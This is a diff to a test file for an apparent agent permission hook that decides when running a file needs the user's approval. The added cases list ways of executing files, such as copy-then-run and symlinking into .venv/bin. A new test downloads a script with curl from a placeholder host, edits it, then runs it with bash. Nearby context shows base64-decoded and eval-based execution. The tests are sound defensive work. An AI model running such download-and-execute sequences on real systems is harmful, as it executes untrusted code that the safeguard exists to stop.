@@ -79,6 +79,7 @@ def test_what_the_session_made_of_what_is_known_runs(calls: list[Any]):
         ["gcc -x c -o /tmp/a - < /tmp/x && /tmp/a"],
         ["cp /tmp/x /tmp/a.c", "gcc -o /tmp/a /tmp/a.c", "/tmp/a"],
         ["go build -o /tmp/t ./cmd", "cp /tmp/other /tmp/t", "/tmp/t"],
+        ["cp /tmp/x run", "./run"], ["ln -s /tmp/x .venv/bin/tool", ".venv/bin/tool"],
         ["cp /tmp/x run.sh && ./run.sh"], ["base64 -d x > /tmp/b", "chmod +x /tmp/b", "/tmp/b"],
         ["chmod +x /tmp/b", "/tmp/b"],
         [wrote("/tmp/e.sh", 'eval "$(cat /tmp/x)"'), "bash /tmp/e.sh"],
@@ -131,6 +132,11 @@ def test_a_text_that_acts_badly_is_judged_as_if_it_were_typed(calls: list[Any]):
 
 def test_a_new_text_in_the_place_of_a_downloaded_one_is_the_sessions_own():
     assert decisions("curl -o /tmp/t.sh https://x.example", wrote("/tmp/t.sh", "ls"), "bash /tmp/t.sh") == [None] * 3
+
+
+def test_a_downloaded_file_that_is_edited_stays_downloaded():
+    edit = {"Edit": {"file_path": "/tmp/t.sh", "old_string": "a", "new_string": "b"}}
+    assert decisions("curl -o /tmp/t.sh https://x.example", edit, "bash /tmp/t.sh") == [None, None, "ask"]
 
 
 def test_where_more_files_were_written_than_are_kept_nothing_is_trusted(monkeypatch: pytest.MonkeyPatch):
